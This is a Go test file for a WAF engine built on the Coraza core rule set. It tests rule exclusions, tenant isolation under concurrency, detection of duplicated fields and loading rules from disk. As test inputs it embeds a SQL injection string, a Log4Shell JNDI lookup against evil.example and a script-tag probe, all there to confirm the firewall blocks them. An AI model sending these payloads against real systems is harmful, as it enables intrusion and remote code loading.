package waf

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4"

	"edge/rules"
)

// withRules is an engine for the rules file text.
func withRules(t *testing.T, text string) *Engine {
	t.Helper()
	path := filepath.Join(t.TempDir(), "rules.yaml")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	set, err := rules.Load([]string{path})
	if err != nil {
		t.Fatal(err)
	}
	return engine(t, set.WAF)
}

const attack = "1' OR '1'='1"

func at(path, tenant string, r Request) Request {
	r.Path, r.Tenant = path, tenant
	return r
}

func TestExclusions(t *testing.T) {
	form, json := "application/x-www-form-urlencoded", "application/json"
	body := "note=" + strings.ReplaceAll(attack, " ", "+")
	for _, c := range []struct {
		name, exclusion string
		r               Request
		body            string
		passes          bool
	}{
		{"field", `rules: ["942100"], variables: ["ARGS:note"]`, post(form), body, true},
		{"field_case", `rules: ["942100"], variables: ["ARGS:NOTE"]`, post(form), body, true},
		{"other_field", `rules: ["942100"], variables: ["ARGS:text"]`, post(form), body, false},
		{"range", `rules: ["942000-942999"], variables: ["ARGS:note"]`, post(form), body, true},
		{"tag", `rules: [attack-sqli], variables: ["ARGS:note"]`, post(form), body, true},
		{"other_rule", `rules: ["942101"], variables: ["ARGS:note"]`, post(form), body, false},
		{"whole_rule", `rules: ["942100"]`, post(form), body, true},
		{"query", `rules: ["942100"], variables: ["ARGS:q"]`, get("/?q=1'%20OR%20'1'='1"), "", true},
		{"json", `rules: ["942100"], variables: ["json.entries.*.note"]`, post(json), `{"entries":[{"note":"x"},{"note":"` + attack + `"}]}`, true},
		{"json_elsewhere", `rules: ["942100"], variables: ["json.entries.*.note"]`, post(json), `{"entries":[{"title":"` + attack + `"}]}`, false},
		{"json_deeper", `rules: ["942100"], variables: ["json.entries.*.note"]`, post(json), `{"entries":[{"a":{"note":"` + attack + `"}}]}`, false},
		{"path", `match: {path: "/timesheets/*"}, rules: ["942100"]`, at("/timesheets/7", "", post(form)), body, true},
		{"other_path", `match: {path: "/timesheets/*"}, rules: ["942100"]`, at("/employees/7", "", post(form)), body, false},
		{"method", `match: {method: PUT}, rules: ["942100"]`, post(form), body, false},
		{"tenant", `match: {tenant: acme}, rules: ["942100"]`, at("/", "acme", post(form)), body, true},
		{"other_tenant", `match: {tenant: acme}, rules: ["942100"]`, at("/", "globex", post(form)), body, false},
		{"chained", `rules: ["920170"]`, withBody(get("/")), "x=1", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := withRules(t, fmt.Sprintf("waf: {thresholds: {inbound: 3}, exclusions: [{name: x, %s}]}", c.exclusion))
			if it, matches := judge(t, e, c.r, c.body); (it == nil) != c.passes {
				t.Errorf("passes: %v, want %v; %+v", it == nil, c.passes, matches)
			}
		})
	}
}

// withBody makes a GET that announces a body, which a chained rule is against.
func withBody(r Request) Request {
	r.Header.Set("Content-Length", "3")
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return r
}

// The chained rule that an exclusion is tested on does match without it.
func TestChainedRuleMatches(t *testing.T) {
	if it, _ := judge(t, withRules(t, "waf: {thresholds: {inbound: 3}}"), withBody(get("/")), "x=1"); it == nil {
		t.Error("it passes")
	}
}

// An exclusion for one request is none for the next, in whatever order and how
// many at once they come.
func TestVerdictsDoNotLeak(t *testing.T) {
	e := withRules(t, `waf: {exclusions: [{name: x, match: {tenant: acme}, rules: [attack-sqli], variables: ["ARGS:q"]}]}`)
	var wg sync.WaitGroup
	for worker := range 4 {
		wg.Go(func() {
			for i := range 250 {
				tenant, passes := "acme", true
				if (i+worker)%2 == 0 {
					tenant, passes = "globex", false
				}
				if it, _ := judge(t, e, at("/", tenant, get("/?q=1'%20OR%20'1'='1")), ""); (it == nil) != passes {
					t.Errorf("tenant %s: passes %v", tenant, it == nil)
				}
			}
		})
	}
	wg.Wait()
}

// An attack is found whatever bears its name, every time: one of two headers, of
// two cookies, of two parameters, of two form fields whose names differ in case.
func TestTwins(t *testing.T) {
	rounds := 150
	if os.Getenv("EDGE_LONG") != "" {
		rounds = 5000
	}
	e := engine(t, paranoia1)
	form := "application/x-www-form-urlencoded"
	q := strings.ReplaceAll(attack, " ", "+")
	for name, c := range map[string]struct {
		header []string
		target string
		body   string
	}{
		"headers":    {header: []string{"harmless", "${jndi:ldap://evil.example/a}"}, target: "/"},
		"query":      {target: "/?a=1&q=ok&b=2&q=" + strings.ReplaceAll(attack, " ", "%20") + "&c=3"},
		"unnamed":    {target: "/?a=1&=ok&b=2&=" + strings.ReplaceAll(attack, " ", "%20") + "&c=3"},
		"form":       {target: "/", body: "a=1&q=ok&b=2&q=" + q + "&c=3"},
		"form_cases": {target: "/", body: "id=" + q + "&ID=1&Id=2"},
	} {
		t.Run(name, func(t *testing.T) {
			for i := range rounds {
				r := get(c.target)
				if c.body != "" {
					r = post(form)
				}
				for _, name := range strings.Fields("Accept-Language Accept-Encoding Cache-Control Dnt Sec-Fetch-Dest Sec-Fetch-Mode Sec-Fetch-Site X-Requested-With") {
					r.Header.Set(name, "en")
				}
				r.Header["X-Note"] = c.header
				if it, _ := judge(t, e, r, c.body); it == nil {
					t.Fatalf("missed at request %d", i)
				}
			}
		})
	}
}

// A rule set on disk is used instead of the one built in, and its content is part
// of the policy.
func TestRuleSetOnDisk(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "rules"), 0o755); err != nil {
		t.Fatal(err)
	}
	files, err := coreruleset.FS.(interface {
		Glob(string) ([]string, error)
	}).Glob("*/*")
	if err != nil || len(files) < 40 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		text, err := coreruleset.FS.(interface {
			ReadFile(string) ([]byte, error)
		}).ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "rules", filepath.Base(name)), text, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w := paranoia1
	w.CRSDir = dir
	if it, _ := judge(t, engine(t, w), get("/?q=<script>"), ""); it == nil {
		t.Error("the rule set on disk stops nothing")
	}
	if err := os.Rename(filepath.Join(dir, "rules"), filepath.Join(dir, "real")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "rules"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range files { // a directory of links is as good
		base := filepath.Base(name)
		if err := os.Symlink(filepath.Join(dir, "real", base), filepath.Join(dir, "rules", base)); err != nil {
			t.Fatal(err)
		}
	}
	own := `SecRule ARGS:q "@streq newer" "id:9999,phase:1,deny,status:403,msg:'newer'"` + "\n"
	if err := os.WriteFile(filepath.Join(dir, "rules", "REQUEST-999-OWN.conf"), []byte(own), 0o644); err != nil {
		t.Fatal(err)
	}
	if it, _ := judge(t, engine(t, w), get("/?q=newer"), ""); it == nil || it.RuleID != 9999 {
		t.Errorf("a changed rule set is not taken up: %+v", it)
	}
}

// FuzzForm holds our reading of a form against the engine's.
func FuzzForm(f *testing.F) {
	for _, s := range []string{"a=1&b=2", "a&&=b&c=%zz%41+x", "%", "a=%4", "=", "a==b", "A=1&a=2"} {
		f.Add(s)
	}
	e, err := shared.Get(paranoia1)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, body string) {
		tx := e.Begin(post("application/x-www-form-urlencoded"))
		defer tx.Close()
		tx.RequestHeaders()
		if _, err := tx.RequestBody(strings.NewReader(body), int64(len(body))); err != nil || body == "" {
			return
		}
		got := map[field]int{}
		for _, d := range tx.state().Variables().ArgsPost().FindAll() {
			got[field{d.Key(), d.Value()}]++
		}
		want := parseForm(body)
		for _, w := range want {
			if got[w]--; got[w] < 0 {
				t.Fatalf("%q: %q is not there: %v", body, w, got)
			}
		}
		names := map[string]bool{}
		for _, w := range want {
			names[strings.ToLower(w.name)] = true
		}
		n := len(tx.state().Variables().ArgsPost().FindAll()) - len(want)
		if n < 0 || n > len(want)-len(names) { // a name with several values has one more, of them all
			t.Errorf("%q: %d fields more than %d", body, n, len(want))
		}
	})
}
